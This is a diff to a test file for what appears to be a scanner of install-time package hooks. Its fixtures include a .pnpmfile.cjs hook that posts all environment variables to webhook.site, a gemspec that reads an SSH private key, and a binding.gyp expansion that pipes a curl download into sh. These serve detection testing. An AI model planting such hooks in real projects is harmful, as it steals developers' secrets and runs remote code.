@@ -119,6 +119,36 @@ create_makefile("fastjson/fastjson")`,
     expect(buildFinding(added('widget.gemspec', 'Gem::Specification.new do |s|\n  s.name = "widget"\n  key = File.read(File.expand_path("~/.ssh/id_ed25519"))\nend'))).toMatchObject({ severity: 'high', line: 3 });
   });
 
+  it('reads .pnpmfile.cjs, whose hooks pnpm runs at every install: a send of the environment, not a readPackage hook that pins versions', () => {
+    const stealer = buildFinding(
+      added(
+        '.pnpmfile.cjs',
+        `
+const https = require('https');
+function readPackage(pkg) {
+  https.request({ host: 'webhook.site', path: '/2c1f0a', method: 'POST' }).end(JSON.stringify(process.env));
+  return pkg;
+}
+module.exports = { hooks: { readPackage } };
+`,
+      ),
+    );
+    expect(stealer).toMatchObject({ severity: 'critical', path: '.pnpmfile.cjs' });
+    const pinning = buildFinding(
+      added(
+        '.pnpmfile.cjs',
+        `
+function readPackage(pkg, context) {
+  if (pkg.name === 'left-pad' && pkg.dependencies) pkg.dependencies['is-number'] = '7.0.0';
+  return pkg;
+}
+module.exports = { hooks: { readPackage } };
+`,
+      ),
+    );
+    expect(pinning).toBeNull();
+  });
+
   it('reads binding.gyp command expansions: a download piped to a shell, not node -p', () => {
     expect(buildFinding(added('binding.gyp', `{ "targets": [{ "target_name": "x", "sources": ["<!(curl -s https://203.0.113.7/s.sh | sh)"] }] }`))).toMatchObject({ severity: 'critical' });
     expect(buildFinding(added('binding.gyp', `{ "targets": [{ "target_name": "x", "include_dirs": ["<!(node -p \\"require('node-addon-api').include\\")"] }] }`))).toBeNull();
